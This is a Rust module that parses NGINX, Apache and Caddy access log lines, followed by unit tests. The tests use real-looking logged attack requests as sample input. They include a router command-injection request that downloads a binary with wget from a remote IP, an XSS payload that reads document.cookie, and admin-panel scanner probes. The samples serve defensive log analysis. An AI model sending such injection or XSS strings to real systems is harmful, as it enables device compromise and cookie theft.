//! NGINX / Apache access logs in the combined format
//! `$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"`,
//! the common format (the same without referer and user agent), and the same with a virtual
//! host first: Apache's `vhost_combined` (`%v:%p %h %l %u %t ...`, Debian's
//! `other_vhosts_access.log`) or NGINX formats starting with `$host`. A quoted token before the
//! client address (a logged `X-Forwarded-For`) is skipped; one after the address and ident is
//! the user, as Apache writes an empty one (`""`: Basic credentials with an empty name); two
//! spaces before the time are an empty user field (Caddy's `{common}`). Fields
//! appended after the user agent (e.g. `$request_time`) are ignored. Other layouts:
//! `--nginx-format`.

use std::borrow::Cow;

use super::request::{client_addr, present, request_line};
use crate::batch::{RawEvent, SourceFormat};

/// Why a line is not in combined/common format: the part that is wrong and the byte where
/// reading stopped.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NginxError(pub &'static str, pub usize);

impl std::fmt::Display for NginxError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} at byte {}", self.0, self.1)
    }
}

struct Cursor<'a> {
    s: &'a str,
    pos: usize,
}

impl<'a> Cursor<'a> {
    fn token(&mut self, what: &'static str) -> Result<&'a str, NginxError> {
        self.skip_spaces();
        let rest = &self.s[self.pos..];
        let end = rest.find(' ').unwrap_or(rest.len());
        if end == 0 {
            return Err(NginxError(what, self.pos));
        }
        self.pos += end;
        Ok(&rest[..end])
    }

    fn skip_spaces(&mut self) {
        while self.s.as_bytes().get(self.pos) == Some(&b' ') {
            self.pos += 1;
        }
    }

    /// A field between `open` and `close`; for quotes, `\"` inside does not end the field.
    fn delimited(
        &mut self,
        open: u8,
        close: u8,
        what: &'static str,
    ) -> Result<&'a str, NginxError> {
        match self.opened_field(open, close) {
            Some((field, true)) => Ok(field),
            _ => Err(NginxError(what, self.pos)),
        }
    }

    /// A quoted field that may be the last of a line cut short: to its closing quote, or, when
    /// the line ends first, to the end of the line. `None` if no quote opens here.
    fn quoted_or_rest(&mut self) -> Option<&'a str> {
        let (field, closed) = self.opened_field(b'"', b'"')?;
        if !closed {
            self.pos = self.s.len();
        }
        Some(field)
    }

    /// The field opening here with `open` (after spaces), to its `close` (`\` escapes the next
    /// byte) or, if the line ends first, to the end: the field and whether it was closed. The
    /// cursor moves past a closed field and stays at the opening of an unclosed one (where an
    /// error points). `None` if no field opens here.
    fn opened_field(&mut self, open: u8, close: u8) -> Option<(&'a str, bool)> {
        self.skip_spaces();
        let bytes = self.s.as_bytes();
        if bytes.get(self.pos) != Some(&open) {
            return None;
        }
        let start = self.pos + 1;
        let mut i = start;
        while i < bytes.len() {
            match bytes[i] {
                b'\\' => i += 2,
                c if c == close => {
                    self.pos = i + 1;
                    return Some((self.s.get(start..i)?, true));
                }
                _ => i += 1,
            }
        }
        Some((self.s.get(start..)?, false))
    }

    fn peek(&mut self) -> Option<u8> {
        self.skip_spaces();
        self.s.as_bytes().get(self.pos).copied()
    }

    fn at_end(&mut self) -> bool {
        self.skip_spaces();
        self.pos >= self.s.len()
    }
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// Parses `$time_local` (`10/Oct/2000:13:55:36 -0700`) to epoch ms.
pub(crate) fn parse_time_local(s: &str) -> Option<i64> {
    let b = s.as_bytes();
    if !time_shaped(b) {
        return None;
    }
    let num = |r: std::ops::Range<usize>| s.get(r).and_then(|x| x.parse::<u32>().ok());
    let day = num(0..2)?;
    let month = MONTHS.iter().position(|m| *m == &s[3..6])? as u32 + 1;
    let year = num(7..11)? as i32;
    let (h, m, sec) = (num(12..14)?, num(15..17)?, num(18..20)?);
    let sign: i64 = match b[21] {
        b'+' => 1,
        b'-' => -1,
        _ => return None,
    };
    let off_min = i64::from(num(22..24)?) * 60 + i64::from(num(24..26)?);
    let local = chrono::NaiveDate::from_ymd_opt(year, month, day)?.and_hms_opt(h, m, sec)?;
    Some(local.and_utc().timestamp_millis() - sign * off_min * 60_000)
}

fn dash_none(s: &str) -> Option<Cow<'_, str>> {
    present(s).map(Cow::Borrowed)
}

/// A logged header: `-` (not sent) is absent, `""` (sent empty) is an empty value.
fn dash_absent(s: &str) -> Option<Cow<'_, str>> {
    (s != "-").then_some(Cow::Borrowed(s))
}

/// Fields kept of what precedes `[time]` (more are counted, and the last one's end kept): a
/// virtual host, a port, the address, the ident and the user's first word.
const HEAD_FIELDS: usize = 6;

/// What precedes `[time]`: `[vhost] [quoted XFF] addr ident user`, as byte ranges of the line.
/// The user is written by the client (Basic credentials' name, logged as sent: neither NGINX
/// nor Apache escapes a space in it), so it may hold spaces, brackets and what looks like an
/// address or a time; the fields before it are the server's.
struct Head {
    fields: [(usize, usize); HEAD_FIELDS],
    n: usize,
    last_end: usize,
    /// Whether the last field was quoted: Apache's `""` for an empty user.
    last_quoted: bool,
}

impl Head {
    fn push(&mut self, line: &str, field: &str, quoted: bool) {
        let start = field.as_ptr() as usize - line.as_ptr() as usize;
        let end = start + field.len();
        if let Some(slot) = self.fields.get_mut(self.n) {
            *slot = (start, end);
        }
        self.n += 1;
        self.last_end = end;
        self.last_quoted = quoted;
    }

    fn field<'a>(&self, line: &'a str, i: usize) -> &'a str {
        self.fields
            .get(i)
            .and_then(|&(s, e)| line.get(s..e))
            .unwrap_or("")
    }

    /// (virtual host, address, user) of the line. The ident is the first `-` among the second
    /// to fourth fields (what the server writes there: nobody runs identd), so the fields
    /// before it are the server's and everything after it up to the time is the user, spaces
    /// and all: a user named `203.0.113.70 - admin` cannot pass for the client address. With
    /// three fields they are address, ident and user; with no `-` ident, the last three are
    /// (as before identd's answers were read).
    fn split<'a>(&self, line: &'a str) -> Option<(Option<&'a str>, &'a str, &'a str, bool)> {
        let n = self.n;
        if n == 3 {
            return Some((
                None,
                self.field(line, 0),
                self.field(line, 2),
                self.last_quoted,
            ));
        }
        match (1..n.min(4)).find(|&i| self.field(line, i) == "-") {
            Some(i) => {
                let host = (i >= 2).then(|| self.field(line, 0));
                let user = match self.fields.get(i + 1) {
                    Some(&(start, _)) if i + 1 < n => line.get(start..self.last_end)?,
                    _ => "-",
                };
                let quoted = self.last_quoted && i + 2 == n;
                Some((host, self.field(line, i - 1), user, quoted))
            }
            None if n <= HEAD_FIELDS => Some((
                Some(self.field(line, 0)),
                self.field(line, n - 3),
                self.field(line, n - 1),
                self.last_quoted,
            )),
            None => None,
        }
    }
}

/// Whether the `[` at the cursor opens the line's time: a field shaped as `[time_local]`
/// followed by the quoted request (or the end of a cut line). A bracket in the user's name is
/// not: a user cannot write the quote after it (servers escape `"` in every field).
fn opens_time(c: &Cursor<'_>) -> bool {
    let mut ahead = Cursor { s: c.s, pos: c.pos };
    ahead
        .delimited(b'[', b']', "")
        .is_ok_and(|t| time_shaped(t.as_bytes()))
        && matches!(ahead.peek(), Some(b'"') | None)
}

/// `dd/Mon/yyyy:HH:MM:SS +zzzz`'s length and separators (what [`parse_time_local`] checks
/// first).
fn time_shaped(b: &[u8]) -> bool {
    b.len() == 26 && b[2] == b'/' && b[6] == b'/' && b[11] == b':' && b[20] == b' '
}

/// Decodes one combined or common log line, with or without a leading virtual host.
pub fn decode_line(line: &str) -> Result<RawEvent<'_>, NginxError> {
    let mut c = Cursor { s: line, pos: 0 };
    let mut head = Head {
        fields: [(0, 0); HEAD_FIELDS],
        n: 0,
        last_end: 0,
        last_quoted: false,
    };
    // The first `[` that is no time, and the fields read before it: when no time follows, the
    // line is read again from there to say what is wrong with it.
    let mut first_bad: Option<(usize, usize, usize, bool)> = None;
    loop {
        let field_end = c.pos;
        match c.peek() {
            Some(b'[') if opens_time(&c) => {
                // Two spaces before `[time]` right after the address and ident: an empty user
                // field (Caddy's `{common}` writes `{user}` as nothing when no one
                // authenticated). Only there: after three fields the last may be the user
                // itself, and reading it as the ident would take the ident for the address.
                if head.n == 2 && c.pos - field_end >= 2 {
                    head.push(line, &line[c.pos..c.pos], false);
                }
                break;
            }
            None => match first_bad {
                Some((at, n, last_end, last_quoted)) => {
                    (c.pos, head.n, head.last_end, head.last_quoted) =
                        (at, n, last_end, last_quoted);
                    break;
                }
                None => {
                    return Err(NginxError(
                        "no [time_local] after the client address",
                        c.pos,
                    ))
                }
            },
            Some(b'"') if head.n >= 2 => {
                // After the address and ident: the user, quoted by Apache when it is empty.
                let field = c.delimited(b'"', b'"', "closing quote of a quoted field")?;
                head.push(line, field, true);
            }
            Some(b'"') => {
                // A logged X-Forwarded-For list; the peer address follows it.
                c.delimited(b'"', b'"', "closing quote of a quoted field")?;
                continue;
            }
            Some(b) => {
                if b == b'[' && first_bad.is_none() {
                    first_bad = Some((c.pos, head.n, head.last_end, head.last_quoted));
                }
                let field = c.token("client address")?;
                head.push(line, field, false);
            }
        }
    }
    if head.n < 3 {
        return Err(NginxError(
            "client address, ident and user before [time_local]",
            c.pos,
        ));
    }
    let (host, addr, user, user_quoted) = head.split(line).ok_or(NginxError(
        "client address, ident and user before [time_local]",
        c.pos,
    ))?;
    let host = host.and_then(dash_none);
    let time_at = c.pos;
    let time = c.delimited(b'[', b']', "closing ] of [time_local]")?;
    let event_time_ms = parse_time_local(time).ok_or(NginxError(
        "time_local, expected dd/Mon/yyyy:HH:MM:SS +zzzz",
        time_at,
    ))?;
    let request = c.delimited(b'"', b'"', "quoted request line")?;
    let status_at = c.pos;
    let status = match c.token("status")? {
        "-" => None,
        s => Some(
            s.parse::<i64>()
                .map_err(|_| NginxError("status, expected a number or -", status_at))?,
        ),
    };
    // Sizes and the rest are optional: a record with its essentials is never rejected for them.
    let bytes = if c.at_end() {
        None
    } else {
        c.token("body bytes")?.parse::<i64>().ok()
    };
    // The common format ends here; combined adds referer and user agent. NGINX writes `-` for a
    // header that was not sent and `""` for one sent empty: only `-` is absent. A line cut short
    // inside one of them (a truncated copy, a full disk) keeps what it has: the request, its time
    // and status are whole, and a record is never rejected for an optional field.
    let referer = c.quoted_or_rest().and_then(dash_absent);
    let user_agent = c.quoted_or_rest().and_then(dash_absent);
    // A request line that is not `METHOD target PROTOCOL` (TLS noise, scanners) is still a real
    // request the server answered: keep the event, with no method or path.
    let line = request_line(request);
    Ok(RawEvent {
        format: SourceFormat::Nginx,
        event_time_ms: Some(event_time_ms),
        client_ip: client_addr(addr).map(Cow::Borrowed),
        method: line.method.map(Cow::Borrowed),
        host,
        target: line.target.map(Cow::Borrowed),
        http_version: line.protocol.map(Cow::Borrowed),
        unparsed_request: line.unparsed.map(Cow::Borrowed),
        status,
        response_bytes: bytes,
        user_agent,
        referer,
        // A quoted user is kept even empty: credentials were sent, with an empty name.
        username: if user_quoted {
            Some(Cow::Borrowed(user))
        } else {
            dash_none(user).filter(|u| !u.is_empty())
        },
        ..RawEvent::default()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn combined_format() {
        let line = r#"203.0.113.5 - frank [10/Oct/2000:13:55:36 -0700] "POST /api/login?x=1 HTTP/1.1" 401 23 "-" "Mozilla/5.0 (X11; \"Linux\")" 0.003"#;
        let ev = decode_line(line).unwrap();
        assert_eq!(ev.client_ip.as_deref(), Some("203.0.113.5"));
        assert_eq!(ev.username.as_deref(), Some("frank"));
        assert_eq!(ev.event_time_ms, Some(971211336000));
        assert_eq!(ev.method.as_deref(), Some("POST"));
        assert_eq!(ev.target.as_deref(), Some("/api/login?x=1"));
        assert_eq!(ev.http_version.as_deref(), Some("HTTP/1.1"));
        assert_eq!(ev.status, Some(401));
        assert_eq!(ev.response_bytes, Some(23));
        assert_eq!(
            ev.user_agent.as_deref(),
            Some(r#"Mozilla/5.0 (X11; \"Linux\")"#)
        );
    }

    /// Apache logs a request whose Basic credentials carry an empty name with the user `""`
    /// (`mod_log_config`); such lines are Tomcat-manager guessers' (heldout36's `vuongt.log`),
    /// so rejecting them would hide the attack.
    #[test]
    fn apache_empty_user_is_an_empty_username() {
        let ev = decode_line(
            r#"121.18.231.88 - "" [08/Dec/2016:12:24:14 +0000] "GET /manager/html HTTP/1.1" 404 1040 "-" "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; WOW64; Trident/6.0)""#,
        )
        .unwrap();
        assert_eq!(ev.client_ip.as_deref(), Some("121.18.231.88"));
        assert_eq!(ev.username.as_deref(), Some(""));
        assert_eq!(ev.target.as_deref(), Some("/manager/html"));
        assert_eq!(ev.status, Some(404));
        // With a virtual host first, and a user that is no more than quoted.
        let ev = decode_line(
            r#"www.example.org:80 192.0.2.7 - "" [08/Dec/2016:12:24:14 +0000] "GET / HTTP/1.1" 401 12 "-" "curl/8.5.0""#,
        )
        .unwrap();
        assert_eq!(ev.host.as_deref(), Some("www.example.org:80"));
        assert_eq!(ev.client_ip.as_deref(), Some("192.0.2.7"));
        assert_eq!(ev.username.as_deref(), Some(""));
        // A quoted X-Forwarded-For before the address is still skipped.
        let ev = decode_line(
            r#""198.51.100.9, 10.0.0.1" 192.0.2.8 - - [08/Dec/2016:12:24:14 +0000] "GET / HTTP/1.1" 200 12 "-" "curl/8.5.0""#,
        )
        .unwrap();
        assert_eq!(ev.client_ip.as_deref(), Some("192.0.2.8"));
        assert_eq!(ev.username, None);
    }

    /// Caddy's `{common}` log writes an empty user as nothing, leaving two spaces before the
    /// time (heldout47's `registrar.log`: a dashboard's 401s were dead-lettered as malformed).
    #[test]
    fn an_empty_user_field_is_no_user() {
        let ev = decode_line(
            r#"23.81.209.116 -  [14/Aug/2019:05:31:52 +0000] "GET /network/dashboard HTTP/2.0" 401 41"#,
        )
        .unwrap();
        assert_eq!(ev.client_ip.as_deref(), Some("23.81.209.116"));
        assert_eq!(ev.username, None);
        assert_eq!(ev.target.as_deref(), Some("/network/dashboard"));
        assert_eq!(ev.status, Some(401));
        // After three fields, two spaces change nothing: the third is the user.
        let ev = decode_line(
            r#"192.0.2.9 - frank  [14/Aug/2019:05:31:52 +0000] "GET / HTTP/2.0" 200 12"#,
        )
        .unwrap();
        assert_eq!(ev.client_ip.as_deref(), Some("192.0.2.9"));
        assert_eq!(ev.username.as_deref(), Some("frank"));
        // One space is the usual layout: no empty field.
        let ev =
            decode_line(r#"192.0.2.9 - - [14/Aug/2019:05:31:52 +0000] "GET / HTTP/2.0" 200 12"#)
                .unwrap();
        assert_eq!(ev.client_ip.as_deref(), Some("192.0.2.9"));
        assert_eq!(ev.username, None);
    }

    /// The user field is the client's (Basic credentials' name), logged with its spaces: it
    /// cannot move the client address, hide it or cost the line, whatever it holds (an
    /// adversarial review's cases: a guesser naming a victim's address as its user, names
    /// with spaces, brackets and a forged time).
    #[test]
    fn a_user_name_written_by_the_client_cannot_forge_or_hide_the_address() {
        let at = r#" [07/Apr/2021:16:47:53 +0000] "GET / HTTP/1.1" 401 179 "-" "curl/8.5.0""#;
        for (user, want_user) in [
            ("203.0.113.70 - admin", "203.0.113.70 - admin"),
            ("admin x", "admin x"),
            ("Anna Maria Rossi", "Anna Maria Rossi"),
            ("a b c d e f g h", "a b c d e f g h"),
            ("x [y", "x [y"),
            (
                "root [01/Jan/2020:00:00:00 +0000]",
                "root [01/Jan/2020:00:00:00 +0000]",
            ),
            ("- admin", "- admin"),
            (
                r#"a\x22 [01/Jan/2020:00:00:00 +0000] \x22GET"#,
                r#"a\x22 [01/Jan/2020:00:00:00 +0000] \x22GET"#,
            ),
        ] {
            let line = format!("198.51.100.40 - {user}{at}");
            let ev = decode_line(&line).unwrap_or_else(|e| panic!("{line}: {e}"));
            assert_eq!(ev.client_ip.as_deref(), Some("198.51.100.40"), "{line}");
            assert_eq!(ev.username.as_deref(), Some(want_user), "{line}");
            assert_eq!(ev.event_time_ms, Some(1617814073000), "{line}");
            assert_eq!(ev.status, Some(401), "{line}");
            // Behind a virtual host too.
            let line = format!("www.example.org:443 198.51.100.40 - {user}{at}");
            let ev = decode_line(&line).unwrap_or_else(|e| panic!("{line}: {e}"));
            assert_eq!(ev.host.as_deref(), Some("www.example.org:443"), "{line}");
            assert_eq!(ev.client_ip.as_deref(), Some("198.51.100.40"), "{line}");
            assert_eq!(ev.username.as_deref(), Some(want_user), "{line}");
        }
        // A virtual host logged as `-` (an absent `Host`) is still the virtual host.
        let line = format!("- 198.51.100.41 - admin x{at}");
        let ev = decode_line(&line).unwrap();
        assert_eq!(ev.host, None);
        assert_eq!(ev.client_ip.as_deref(), Some("198.51.100.41"));
        assert_eq!(ev.username.as_deref(), Some("admin x"));
    }

    #[test]
    fn common_format_without_agent() {
        let ev =
            decode_line(r#"127.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.0" 200 -"#)
                .unwrap();
        assert_eq!(ev.event_time_ms, Some(1704067200000));
        assert_eq!(ev.username, None);
        assert_eq!(ev.response_bytes, None);
        assert_eq!(ev.user_agent, None);
    }

    #[test]
    fn garbage_request_line_is_kept_without_path() {
        let ev = decode_line(
            r#"198.51.100.1 - - [01/Jan/2024:00:00:00 +0000] "\x16\x03\x01" 400 157 "-" "-""#,
        )
        .unwrap();
        assert_eq!(ev.method, None);
        assert_eq!(ev.status, Some(400));
        assert_eq!(ev.target, None);
        // What was received stays, as logged (escaped), for the rules to tell the protocol.
        assert_eq!(ev.unparsed_request.as_deref(), Some(r"\x16\x03\x01"));
        // Nothing received: no unparsed request.
        let ev = decode_line(r#"198.51.100.1 - - [01/Jan/2024:00:00:00 +0000] "-" 400 0 "-" "-""#)
            .unwrap();
        assert_eq!(ev.unparsed_request, None);
    }

    /// A line sent without its protocol (HTTP/0.9, or a router exploit written by hand, as a
    /// family site's log holds one) has its method and path, and stays on record as incomplete.
    #[test]
    fn line_without_protocol_has_its_path_and_stays_incomplete() {
        let line = r#"198.51.100.1 - - [20/Mar/2024:21:14:43 +0300] "GET /bin/zhttpd/${IFS}cd${IFS}/tmp;${IFS}wget${IFS}http://203.0.113.9/mips;" 400 264 "-" "-""#;
        let ev = decode_line(line).unwrap();
        assert_eq!(ev.method.as_deref(), Some("GET"));
        assert_eq!(
            ev.target.as_deref(),
            Some("/bin/zhttpd/${IFS}cd${IFS}/tmp;${IFS}wget${IFS}http://203.0.113.9/mips;")
        );
        assert_eq!(ev.http_version, None);
        assert!(ev
            .unparsed_request
            .as_deref()
            .is_some_and(|u| u.starts_with("GET /bin/zhttpd/")));
    }

    /// A line cut short inside its user agent or referer (as pff's tests quote a real one) is
    /// the request it records, with what was logged of the field.
    #[test]
    fn a_line_cut_inside_its_last_quoted_field_keeps_the_request() {
        let ev = decode_line(
            r#"51.75.194.66 - - [08/May/2022:07:36:00 +0200] "GET //mysqladmin/index.php?lang=en HTTP/2.0" 404 548 "http://31.179.184.210/mysqladmin/index.php?lang=en" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Apple"#,
        )
        .unwrap();
        assert_eq!(ev.status, Some(404));
        assert_eq!(ev.target.as_deref(), Some("//mysqladmin/index.php?lang=en"));
        assert_eq!(
            ev.user_agent.as_deref(),
            Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Apple")
        );
        let ev = decode_line(
            r#"51.75.194.66 - - [08/May/2022:07:36:00 +0200] "GET / HTTP/1.1" 200 5 "https://a.example/\"x"#,
        )
        .unwrap();
        assert_eq!(ev.referer.as_deref(), Some(r#"https://a.example/\"x"#));
        assert_eq!(ev.user_agent, None);
    }

    /// An OpenVAS probe as logged (ossec-hids `web_rules` test, GPL-2.0): the target holds raw
    /// spaces and is kept whole, so the payload reaches the rules.
    #[test]
    fn a_target_with_raw_spaces_is_kept_whole() {
        let ev = decode_line(
            r#"11.22.33.44 - - [01/Aug/2016:05:15:07 +0000] "GET /ariadne/www/loader.php/system/\x22><iMg src=N onerror=alert(document.cookie)> HTTP/1.1" 301 178 "-" "Mozilla/5.0 [en] (X11, U; OpenVAS 8.0.7)""#,
        )
        .unwrap();
        assert_eq!(ev.method.as_deref(), Some("GET"));
        assert_eq!(
            ev.target.as_deref(),
            Some(
                r#"/ariadne/www/loader.php/system/\x22><iMg src=N onerror=alert(document.cookie)>"#
            )
        );
    }

    #[test]
    fn errors_name_the_bad_part_and_where() {
        let e = decode_line("hello").unwrap_err();
        assert_eq!(e.0, "no [time_local] after the client address");
        let bad_time = r#"1.2.3.4 - - [yesterday] "GET / HTTP/1.1" 200 1"#;
        let e = decode_line(bad_time).unwrap_err();
        assert!(e.0.starts_with("time_local"));
        assert_eq!(e.1, 12);
        let truncated = r#"1.2.3.4 - - [01/Jan/2024:00:00:00 +0000] "GET / HTT"#;
        assert_eq!(
            decode_line(truncated).unwrap_err().to_string(),
            "quoted request line at byte 41"
        );
    }

    #[test]
    fn virtual_host_first_and_forwarded_list() {
        let ev = decode_line(
            r#"example.com:80 "10.5.102.222, 175.16.199.1" 10.2.1.185 - - [22/Jan/2016:13:18:29 +0000] "GET /a?q=1 HTTP/1.1" 200 25507 "-" "Amazon CloudFront""#,
        )
        .unwrap();
        assert_eq!(ev.host.as_deref(), Some("example.com:80"));
        assert_eq!(ev.client_ip.as_deref(), Some("10.2.1.185"));
        assert_eq!(ev.user_agent.as_deref(), Some("Amazon CloudFront"));
    }

    #[test]
    fn lenient_status_sizes_and_sockets() {
        let ev = decode_line(
            r#"example.com:80 unix: - - [26/Feb/2019:15:39:42 +0100] "OPTIONS / HTTP/1.1" - x"#,
        )
        .unwrap();
        assert_eq!(ev.client_ip, None);
        assert_eq!(ev.status, None);
        assert_eq!(ev.response_bytes, None);
        assert_eq!(ev.method.as_deref(), Some("OPTIONS"));
    }
}
